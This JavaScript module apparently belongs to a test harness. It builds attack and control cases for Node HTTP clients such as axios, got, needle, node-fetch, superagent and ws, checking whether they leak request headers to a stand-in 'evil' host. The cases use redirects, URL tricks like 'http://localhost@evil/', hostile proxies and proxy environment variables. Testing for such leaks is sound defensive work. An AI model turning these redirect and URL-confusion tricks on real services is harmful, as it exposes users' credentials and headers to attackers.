// Clients that people have: most are built on `http`, and follow redirects.

const { ended } = require('./tools.cjs');

exports.rows = ({ ours, evil, proxies }) => {
  const rows = [];
  const load = { cjs: name => require(name), esm: name => import(name) };
  const clients = {
    axios: async (url, headers, more) =>
      (await load.cjs('axios')).get(url, { headers, ...more }),
    'axios with fetch': async (url, headers) =>
      (await load.cjs('axios')).get(url, { headers, adapter: 'fetch' }),
    'follow-redirects': async (url, headers) =>
      ended((await load.cjs('follow-redirects')).http.get(url, { headers })),
    got: async (url, headers) =>
      (await load.esm('got')).got(url, { headers, retry: { limit: 0 } }),
    needle: async (url, headers) =>
      (await load.cjs('needle'))('get', url, { headers, follow_max: 3 }),
    'needle that follows with everything': async (url, headers) =>
      (await load.cjs('needle'))('get', url, {
        headers,
        follow_max: 3,
        follow_keep_method: true,
        follow_set_referer: true,
        follow_set_cookies: true,
      }),
    'node-fetch 2': async (url, headers) =>
      (await await load.cjs('node-fetch-2'))(url, { headers }).then(response =>
        response.text(),
      ),
    'node-fetch 3': async (url, headers) =>
      (await load.esm('node-fetch'))
        .default(url, { headers })
        .then(response => response.text()),
    superagent: async (url, headers) =>
      (await load.cjs('superagent')).get(url).set(headers),
    'superagent POST': async (url, headers) =>
      (await load.cjs('superagent')).post(url).set(headers).send({ x: 1 }),
  };
  /** Copies the headers that were sent, by setHeader. */
  const late = name =>
    name.startsWith('superagent') ? { needs: 'created' } : {};

  for (const [name, client] of Object.entries(clients)) {
    const add = (what, attack, control, more) =>
      rows.push({
        name: `${name} ${what}`,
        attack: headers => client(attack, headers),
        control: headers => client(control, headers),
        ...more,
      });
    add('to evil', evil.url, ours.url);
    add('//localhost/', `${evil.origin}//localhost/`, ours.url);
    // node-fetch 3 and fetch take no user in a URL.
    if (!/node-fetch 3|with fetch/.test(name)) {
      add(
        'http://localhost@evil/',
        `http://localhost@${evil.address}:${evil.port}/`,
        ours.url,
      );
    }
    for (const status of [301, 302, 303, 307, 308]) {
      add(
        `redirected by ${status}`,
        ours.redirect(evil.url, status),
        ours.redirect(ours.url, status),
        late(name),
      );
    }
    add(
      'redirected twice',
      ours.redirect(ours.redirect(evil.url)),
      ours.redirect(ours.redirect(ours.url)),
      late(name),
    );
    add(
      'redirected by //evil/',
      ours.redirect(evil.url.replace('http:', '')),
      ours.redirect(ours.url.replace('http:', '')),
      late(name),
    );
    add(
      'redirected to http://evil//localhost/',
      ours.redirect(`${evil.origin}//localhost/`),
      evil.redirect(ours.url),
      late(name),
    );
    if (!/fetch/.test(name)) {
      add(
        'redirected to http://localhost@evil/',
        ours.redirect(`http://localhost@${evil.address}:${evil.port}/`),
        ours.redirect(ours.url),
        late(name),
      );
    }
    add('with baggage of the application', evil.url, ours.url, {
      attack: headers =>
        client(evil.url, { ...headers, Baggage: headers['x-own'] }),
      ...late(name),
    });
  }
  const [host, port] = [proxies.host, Number(proxies.port)];
  const axios = (url, proxy) => headers =>
    clients.axios(url, headers, { proxy: { protocol: 'http', ...proxy } });
  rows.push({
    name: 'axios through a proxy of ours',
    attack: axios(evil.url, { host, port }),
    control: headers => clients.axios(ours.url, headers),
  });
  rows.push({
    name: 'axios through a proxy of evil',
    attack: axios(ours.url, { host: evil.address, port: evil.port }),
    control: headers => clients.axios(ours.url, headers),
  });
  rows.push({
    name: 'axios through a proxy of ours, redirected',
    attack: axios(ours.redirect(evil.url), { host, port }),
    control: axios(ours.redirect(ours.url), { host, port }),
  });
  // Past and through a proxy, as the environment says.
  const withEnvironment = (variables, url) => async headers => {
    const before = { ...process.env };
    Object.assign(process.env, variables);
    try {
      await clients.axios(url, headers);
    } finally {
      process.env = before;
    }
  };
  for (const [name, http_proxy, no_proxy, url] of [
    ['a proxy of ours', proxies.ours, '', evil.url],
    ['a proxy of ours, evil in no_proxy', proxies.ours, '*', evil.url],
    ['a proxy of evil, others in no_proxy', proxies.evil, 'x', ours.url],
  ]) {
    rows.push({
      name: `axios, in the environment ${name}`,
      attack: withEnvironment({ http_proxy, no_proxy }, url),
      control: withEnvironment({ http_proxy, no_proxy: '*' }, ours.url),
    });
  }
  const ws = url => async headers => {
    const { WebSocket } = await load.cjs('ws');
    const socket = new WebSocket(url, { headers, followRedirects: true });
    await new Promise(done => socket.on('error', done).on('open', done));
    socket.terminate();
  };
  rows.push({ name: 'ws', attack: ws(evil.ws), control: ws(ours.ws) });
  rows.push({
    name: 'ws redirected',
    attack: ws(ours.redirect(evil.ws).replace('http', 'ws')),
    control: ws(ours.ws),
  });
  return rows;
};
